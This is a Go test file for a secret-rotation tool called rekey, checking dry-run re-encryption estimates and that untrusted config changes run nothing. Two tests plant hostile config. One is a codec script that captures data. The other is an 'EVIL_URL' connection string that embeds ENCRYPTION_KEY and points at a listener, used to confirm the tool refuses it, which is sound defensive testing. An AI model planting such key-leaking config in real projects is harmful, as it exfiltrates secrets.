package main

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/rekeyhq/rekey/internal/testkit"
)

// TestRotateDryRunEstimate: `rekey rotate ENCRYPTION_KEY --dry-run` prints,
// per table, the estimate of the re-encryption (rows, size, modelled WAL,
// the read+crypto speed of a sample, and the time: a lower bound from
// rows_per_second, else the rehearsal that measures it), also in --json,
// and changes nothing; a database it cannot reach is a warning. A
// rehearsal prints the WAL its run wrote beside the model's.
func TestRotateDryRunEstimate(t *testing.T) {
	p := rcNewProject(t, "estimate", 3000)
	old, _ := p.envKeys()

	r := p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
	t.Logf("rekey rotate ENCRYPTION_KEY --dry-run:\n%s%s", r.stdout, r.stderr)
	if r.code != 0 {
		t.Fatalf("%v", r)
	}
	for _, want := range []string{"    re-encrypt public.patients: ~3,000 rows (", "), WAL ~", " (model, full_page_writes off), read+crypto ",
		" rows/s (sample of 2,000); time: measure with rekey reencrypt --rehearse ENCRYPTION_KEY\n"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("dry run: no %q in\n%s", want, r.stdout)
		}
	}
	if key, _ := p.envKeys(); key != old {
		t.Fatal("the dry run changed the key")
	}
	p.check(old) // every row still opens with the current key

	testkit.EditFile(t, filepath.Join(p.dir, "rekey.yaml"), "batch_size: 500}", "batch_size: 500, rows_per_second: 1000}")
	p.must("config", "trust")
	out := p.must("rotate", "ENCRYPTION_KEY", "--dry-run")
	if !strings.Contains(out, " (sample of 2,000); time: at least 3s at rows_per_second 1,000\n") {
		t.Errorf("dry run with a ceiling:\n%s", out)
	}
	var plan struct {
		Secrets []struct {
			Name      string `json:"name"`
			Reencrypt []struct {
				Table             string  `json:"table"`
				Rows              int64   `json:"rows"`
				HeapBytes         int64   `json:"heap_bytes"`
				SampleRows        int     `json:"sample_rows"`
				EstimatedWALBytes int64   `json:"estimated_wal_bytes"`
				ReadCrypto        float64 `json:"read_crypto_rows_per_second"`
				MinTimeMS         int64   `json:"min_time_ms"`
				WALModel          struct {
					Tuples int64 `json:"tuples"`
				} `json:"wal_model"`
			} `json:"reencrypt"`
		} `json:"secrets"`
	}
	out = p.must("rotate", "ENCRYPTION_KEY", "--dry-run", "--json")
	decodeSnake(t, out, &plan)
	if len(plan.Secrets) != 1 || len(plan.Secrets[0].Reencrypt) != 1 {
		t.Fatalf("dry run --json:\n%s", out)
	}
	if e := plan.Secrets[0].Reencrypt[0]; e.Table != "public.patients" || e.Rows != 3000 || e.HeapBytes <= 0 || e.SampleRows != 2000 ||
		e.EstimatedWALBytes < e.WALModel.Tuples || e.WALModel.Tuples <= 0 || e.ReadCrypto <= 0 || e.MinTimeMS != 3000 {
		t.Errorf("dry run --json: %+v\n%s", e, out)
	}

	reh := p.must("reencrypt", "--rehearse")
	t.Logf("rekey reencrypt --rehearse:\n%s", reh)
	if !strings.Contains(reh, "  WAL: ") || !strings.Contains(reh, " measured during the run (the whole server's WAL); model ~") ||
		!strings.Contains(reh, "full_page_writes is off: no full-page images") {
		t.Errorf("reencrypt --rehearse:\n%s", reh)
	}
	var rj struct {
		Rehearsals []struct {
			WALBytes          int64 `json:"wal_bytes"`
			EstimatedWALBytes int64 `json:"estimated_wal_bytes"`
			Estimate          []struct {
				Rows int64 `json:"rows"`
			} `json:"estimate"`
		} `json:"rehearsals"`
	}
	out = p.must("reencrypt", "--rehearse", "--json")
	decodeSnake(t, out, &rj)
	if len(rj.Rehearsals) != 1 || rj.Rehearsals[0].WALBytes <= 0 || rj.Rehearsals[0].EstimatedWALBytes <= 0 ||
		len(rj.Rehearsals[0].Estimate) != 1 || rj.Rehearsals[0].Estimate[0].Rows != 3000 {
		t.Errorf("reencrypt --rehearse --json:\n%s", out)
	}

	// The server refuses the connection: the plan is printed, with a warning
	// and without an estimate.
	if err := p.cluster.SetHBA("host all all 0.0.0.0/0 reject", "host all all ::1/128 reject"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = p.cluster.ResetHBA() })
	r = p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
	if r.code != 0 || strings.Contains(r.stdout, "re-encrypt public.patients") || !strings.Contains(r.stderr, "could not look up the columns of ENCRYPTION_KEY") {
		t.Fatalf("dry run, database unreachable: %v", r)
	}
	if err := p.cluster.ResetHBA(); err != nil {
		t.Fatal(err)
	}
	p.check(old)
}

// TestRotateDryRunStartsNoCodecProgram: someone who can write the project
// folder (no master key) switches the codec to a command of theirs and
// leaves rekey.yaml unapproved; a dry run may load it (it only prints) but
// starts nothing and connects nowhere. Approved, a dry run still starts
// no codec program: the sample is measured but not re-encrypted.
func TestRotateDryRunStartsNoCodecProgram(t *testing.T) {
	p := rcNewProject(t, "estimate-hostile", 300)
	marker := filepath.Join(t.TempDir(), "ran")
	script := filepath.Join(t.TempDir(), "grab.sh")
	if err := os.WriteFile(script, []byte("#!/bin/sh\ncat > "+marker+"\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	testkit.EditFile(t, filepath.Join(p.dir, "rekey.yaml"), "codec: aes-256-gcm", "codec: command, command: ["+script+"]")
	for _, approved := range []bool{false, true} {
		if approved {
			p.must("config", "trust")
		}
		r := p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
		if r.code != 0 {
			t.Fatalf("%v", r)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Fatalf("approved %t: the dry run started the codec program", approved)
		}
		if !approved && !strings.Contains(r.stderr, "rekey.yaml is not approved") {
			t.Fatalf("unapproved: %v", r)
		}
		if approved && (!strings.Contains(r.stdout, "read+crypto not sampled (a dry run starts no command codec)") || !strings.Contains(r.stdout, "~300 rows")) {
			t.Fatalf("approved: dry run:\n%s", r.stdout)
		}
	}
}

// TestRotateDryRunUnapprovedConnectsNowhere: someone who can write the
// project folder points the data key's database at a derived URL of their
// own server embedding the key, and leaves rekey.yaml unapproved. A dry
// run may load it (it only prints) but connects nowhere: it says why and
// how to approve the file.
func TestRotateDryRunUnapprovedConnectsNowhere(t *testing.T) {
	p := rcNewProject(t, "estimate-unapproved", 300)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	cfgPath := filepath.Join(p.dir, "rekey.yaml")
	testkit.EditFile(t, cfgPath, "database: DATABASE_URL", "database: EVIL_URL")
	raw, err := os.ReadFile(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	evil := "\nderived:\n  EVIL_URL: \"postgres://x:{{ ENCRYPTION_KEY | urlquery }}@" + ln.Addr().String() + "/db?sslmode=disable\"\n"
	if err := os.WriteFile(cfgPath, append(raw, evil...), 0o644); err != nil {
		t.Fatal(err)
	}
	r := p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
	if r.code != 0 || !strings.Contains(r.stderr, "rekey.yaml is not approved: the dry run does not look up the data keys' columns") {
		t.Fatalf("%v", r)
	}
	select {
	case <-accepted:
		t.Fatal("the dry run connected to the server an unapproved rekey.yaml named")
	default:
	}
	// Approved, the same file is looked up (and fails on that server: a
	// warning, still no estimate printed).
	p.must("config", "trust")
	r = p.run("rotate", "ENCRYPTION_KEY", "--dry-run")
	if strings.Contains(r.stderr, "not approved") {
		t.Fatalf("approved: %v", r)
	}
}
